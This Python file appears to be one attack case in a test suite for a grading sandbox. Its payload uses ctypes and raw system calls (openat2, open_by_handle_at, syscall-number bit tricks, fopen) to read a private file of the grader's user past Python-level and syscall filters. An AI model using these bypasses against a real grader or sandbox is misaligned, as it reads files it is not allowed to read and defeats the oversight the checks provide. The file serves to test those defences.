"""Opens a file by system calls that Python has no function for."""

from tests.attacks.attack import Attack
from tests.attacks.pieces import OUTPUT_SIZE_POINTS, SHOW
from tests.attacks.sources import OUTPUT_SIZE

ATTACK = Attack(
    wants="a private file of the grader's user, past whatever Python looks at",
    top=SHOW
    + """
import ctypes, os, platform

libc = ctypes.CDLL(None, use_errno=True)
PATH = b"@SECRET@"
OPEN, OPENAT, OPENAT2 = (2, 257, 437) if platform.machine() == "x86_64" else (-1, 56, 437)
HANDLE_TO, HANDLE_BY = (303, 304) if platform.machine() == "x86_64" else (264, 265)

def take(descriptor):
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return os.read(descriptor, 1 << 16)

def by_handle():
    handle = ctypes.create_string_buffer(144)
    ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
    mount = ctypes.c_int()
    libc.syscall(HANDLE_TO, -100, PATH, handle, ctypes.byref(mount), 0)
    return take(libc.syscall(HANDLE_BY, os.open("/", os.O_RDONLY), handle, 0))

def by_how():
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    return take(libc.syscall(OPENAT2, -100, PATH, ctypes.byref(how), 24))

def by_stream():
    libc.fopen.restype = ctypes.c_void_p
    buffer = ctypes.create_string_buffer(1 << 12)
    libc.fread(buffer, 1, 1 << 12, ctypes.c_void_p(libc.fopen(PATH, b"r")))
    return buffer.raw

def by_upper_half():
    # The kernel looks at the lower half of the number only; a filter may look at both.
    return take(libc.syscall(ctypes.c_long((1 << 32) | OPENAT), -100, PATH, 0))

show(lambda: take(libc.open(PATH, 0)))
show(lambda: take(libc.syscall(OPEN, PATH, 0)))
show(lambda: take(libc.syscall(OPENAT, -100, PATH, 0)))
show(lambda: take(libc.syscall(0x40000000 | OPENAT, -100, PATH, 0)))
show(by_upper_half)
show(by_how)
show(by_handle)
try:
    libc.fopen.restype = ctypes.c_void_p
    if libc.fopen(PATH, b"r"):
        show(by_stream)
except OSError:
    pass
""",
    solutions={"output_size": OUTPUT_SIZE},
    deserves=OUTPUT_SIZE_POINTS,
)
